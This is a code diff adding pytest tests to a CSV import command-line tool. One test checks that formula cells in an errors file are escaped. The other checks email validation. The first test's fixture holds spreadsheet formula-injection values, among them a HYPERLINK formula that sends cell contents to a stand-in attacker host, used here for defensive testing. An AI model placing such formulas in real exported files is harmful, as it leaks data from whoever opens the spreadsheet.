@@ -187,3 +187,53 @@ def test_header_only_imports_nothing(run, engine, tmp_path):
     result = run("lead", str(write(tmp_path / "h.csv", "email,company\n")))
     assert result.exit_code == 0
     assert "0 of 0 rows imported" in result.stdout
+
+
+def test_errors_file_escapes_formula_cells(run, engine, tmp_path):
+    path = write(
+        tmp_path / "evil.csv",
+        "email,first_name,last_name,company\n"
+        f'=HYPERLINK("http://evil.example/?x="&A1),{"x" * 256},+SUM(1),@cmd\n'
+        "ok@example.com,-2,B,\tTab\n",
+    )
+    errors = tmp_path / "errors.csv"
+    result = run("lead", str(path), "--errors-file", str(errors))
+    assert result.exit_code == 1, result.output
+    with errors.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert len(rows) == 1
+    row = rows[0]
+    assert row["line"] == "2"
+    assert row["email"] == '\'=HYPERLINK("http://evil.example/?x="&A1)'
+    assert row["last_name"] == "'+SUM(1)" and row["company"] == "'@cmd"
+    assert row["field"] == "email"
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_email_columns_take_addresses_only(run, engine, tmp_path):
+    path = write(
+        tmp_path / "emails.csv",
+        "email,first_name\n"
+        "not-an-email,A\n"
+        "ada@example.com,Ada\n"
+        "two@@example.com,B\n"
+        "spa ce@example.com,C\n"
+        "nodot@localhost,D\n",
+    )
+    contacts = write(tmp_path / "contacts.csv", "email\nalso-not-one\nbo@example.org\n")
+    errors = tmp_path / "errors.csv"
+    result = run("lead", str(path), "--errors-file", str(errors))
+    assert result.exit_code == 1, result.output
+    assert "1 of 5 rows imported, 4 rejected" in result.stdout
+    assert "line 2: email: 'not-an-email' is not an email address" in result.stderr
+    assert [r[0] for r in leads(engine)] == ["ada@example.com"]
+    with errors.open(newline="", encoding="utf-8") as fh:
+        assert [(r["line"], r["field"]) for r in csv.DictReader(fh)] == [
+            ("2", "email"),
+            ("4", "email"),
+            ("5", "email"),
+            ("6", "email"),
+        ]
+    result = run("contact", str(contacts))
+    assert result.exit_code == 1 and "line 2: email:" in result.stderr
